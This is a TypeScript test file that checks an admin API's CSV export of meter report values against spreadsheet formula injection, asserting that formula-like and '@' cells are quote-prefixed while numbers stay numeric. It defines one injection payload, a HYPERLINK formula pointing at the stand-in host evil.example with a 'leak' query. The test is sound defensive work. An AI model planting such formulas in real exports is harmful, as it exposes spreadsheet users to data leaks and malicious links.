// A VEN that names its resource =HYPERLINK(…) and its rID @… cannot plant a formula in the operator's
// spreadsheet: the values CSV neutralises those cells, and a negative reading stays a number. Real HTTP.
import { describe, expect, it } from 'vitest';
import { reportRequestsOf } from '../../helpers/test-ven.js';
import * as X from '../../helpers/ven-xml/index.js';
import { AUTH } from './admin-fixture.js';
import { listeningAdmin } from './admin-http.js';

const FORMULA = '=HYPERLINK("http://evil.example/?leak","open me")';

describe('values CSV against formula injection', () => {
  it('=HYPERLINK(…) and @… cells from a VEN are prefixed with a quote; -12.5 stays -12.5', async () => {
    const f = await listeningAdmin();
    const ven = await f.registeredVen();
    const at = new Date(f.clock.now().getTime() - 120_000);
    f.vtn.addHandler('onRegisterReport', (offer) => (offer.measurement === 'powerReal' ? { samplingInterval: 'PT1M' } : undefined));
    const offer = X.telemetryUsageMetadata({ resourceId: FORMULA, rIdPrefix: '@' });
    const requests = reportRequestsOf(await ven.registerReports([offer]));
    const usage = requests.find((q) => q.reportSpecifierId === '@TELEMETRY_USAGE')!;
    await ven.updateReport([{
      reportRequestId: usage.reportRequestId, reportSpecifierId: '@TELEMETRY_USAGE', reportName: 'TELEMETRY_USAGE', dtstart: at, duration: 'PT1M',
      intervals: [{ dtstart: at, duration: 'PT1M', payloads: [{ rId: '@powerReal', value: -12.5 }] }],
    }]);
    const res = await f.http('GET', `/admin/v1/reports/values?venId=${ven.venId}&format=csv`, { headers: AUTH });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const [header, row] = res.body.split('\r\n');
    const cols = header!.split(',');
    expect(row).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
    expect(row).toContain(",'@powerReal,");
    expect(row).not.toMatch(/(^|,)[=+@]/);
    // The value column is the number as written, not text.
    const cells = row!.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
    expect(cells).toHaveLength(cols.length);
    expect(cells[cols.indexOf('value')]).toBe('-12.5');
  });
});
